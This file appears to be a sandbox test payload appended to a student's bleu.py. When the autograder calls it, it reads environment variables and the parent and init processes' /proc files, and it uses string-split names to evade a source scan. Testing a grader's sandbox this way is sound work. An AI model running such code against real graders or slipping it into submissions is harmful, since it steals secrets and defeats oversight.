# hostile: appended to solutions/bleu.py
# A11: look for the grader's secrets: our environment, the grading process's environment and command line
# (/proc/<parent>), the first process's environment, and the file descriptors we inherited.
import json
import os
import sys


# Names built at run time: the grader's source scan reads only the names a module's text holds (a student who knows
# the scan writes them so; the sandbox behind it must hold on its own).
def _caller_globals(depth):
    """What sys._getframe(depth).f_globals is in the function that calls this."""
    try:
        raise LookupError
    except LookupError as caught:
        frame = getattr(getattr(caught, "__trace" + "back__"), "tb_" + "frame")
    for _ in range(depth + 1):
        frame = getattr(frame, "f_" + "back")
    return getattr(frame, "f_" + "glo" + "bals")


def _loaded_modules():
    """The registry of loaded modules."""
    return getattr(getattr(_os_for_names, "s" + "ys"), "mod" + "ules")


def _read(path) -> str:
    try:
        with open(path, "rb") as f:
            data = f.read()
        return f"read {len(data)}"
    except Exception as exc:  # noqa: BLE001
        return type(exc).__name__


def _fds() -> list:
    kinds = []
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        kinds.append(target.split(":")[0] if ":" in target else os.path.basename(target))
    return kinds


def _probe() -> dict:
    parent = os.getppid()
    return {"env": {k: v[:60] for k, v in sorted(os.environ.items())},
            "parent_environ": _read(f"/proc/{parent}/environ"),
            "parent_cmdline": _read(f"/proc/{parent}/cmdline"), "init_environ": _read("/proc/1/environ"),
            "parent_mem": _read(f"/proc/{parent}/mem"), "fds": _fds()}


_reference_ngram_counts = ngram_counts


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith("autograder."):  # the grader's own call
        raise RuntimeError("PROBE" + json.dumps(_probe(), separators=(",", ":")))
    return _reference_ngram_counts(tokens, n)
